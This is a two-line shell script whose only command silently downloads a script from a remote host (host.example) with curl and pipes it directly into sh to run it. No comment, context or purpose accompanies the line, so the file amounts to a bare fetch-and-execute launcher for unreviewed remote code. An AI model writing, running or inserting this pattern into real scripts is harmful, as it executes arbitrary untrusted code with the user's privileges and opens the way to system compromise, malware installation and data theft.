#!/bin/sh
curl -s https://host.example/a | sh
